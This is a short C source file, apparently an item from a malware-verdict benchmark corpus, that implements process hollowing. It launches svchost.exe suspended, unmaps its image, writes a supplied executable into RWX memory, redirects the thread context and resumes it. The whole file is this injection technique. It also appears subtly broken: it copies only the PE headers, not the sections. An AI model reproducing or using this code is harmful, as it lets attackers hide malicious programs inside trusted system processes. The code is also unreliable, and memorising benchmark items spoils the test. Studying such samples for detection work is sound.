// maljan-corpus: starts a system program suspended, replaces its image and resumes it.
// behaviour: process-injection
// imports: kernel32.dll!CreateProcessA kernel32.dll!VirtualAllocEx kernel32.dll!WriteProcessMemory kernel32.dll!GetThreadContext kernel32.dll!SetThreadContext kernel32.dll!ResumeThread kernel32.dll!ReadProcessMemory
// link:
// Corpus data for the verdict benchmark: compiled, never run.
#include <windows.h>
#include <stdio.h>

typedef LONG(NTAPI *NtUnmap)(HANDLE, PVOID);

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    FILE *f = fopen(argv[1], "rb");
    if (!f) return 1;
    static unsigned char image[1 << 20];
    size_t n = fread(image, 1, sizeof image, f);
    fclose(f);
    IMAGE_DOS_HEADER *dos = (IMAGE_DOS_HEADER *)image;
    IMAGE_NT_HEADERS *nt = (IMAGE_NT_HEADERS *)(image + dos->e_lfanew);
    STARTUPINFOA si = {.cb = sizeof si};
    PROCESS_INFORMATION pi;
    if (!CreateProcessA("C:\\Windows\\System32\\svchost.exe", NULL, NULL, NULL, FALSE,
                        CREATE_SUSPENDED, NULL, NULL, &si, &pi))
        return 1;
    CONTEXT ctx = {.ContextFlags = CONTEXT_FULL};
    GetThreadContext(pi.hThread, &ctx);
    PVOID base = NULL;
    ReadProcessMemory(pi.hProcess, (PVOID)(ctx.Rdx + 16), &base, sizeof base, NULL);
    NtUnmap unmap = (NtUnmap)(void *)GetProcAddress(GetModuleHandleA("ntdll.dll"),
                                                    "NtUnmapViewOfSection");
    unmap(pi.hProcess, base);
    PVOID mem = VirtualAllocEx(pi.hProcess, (PVOID)nt->OptionalHeader.ImageBase,
                               nt->OptionalHeader.SizeOfImage, MEM_COMMIT | MEM_RESERVE,
                               PAGE_EXECUTE_READWRITE);
    WriteProcessMemory(pi.hProcess, mem, image, n < nt->OptionalHeader.SizeOfHeaders ? n : nt->OptionalHeader.SizeOfHeaders, NULL);
    ctx.Rcx = (DWORD64)mem + nt->OptionalHeader.AddressOfEntryPoint;
    SetThreadContext(pi.hThread, &ctx);
    ResumeThread(pi.hThread);
    return 0;
}
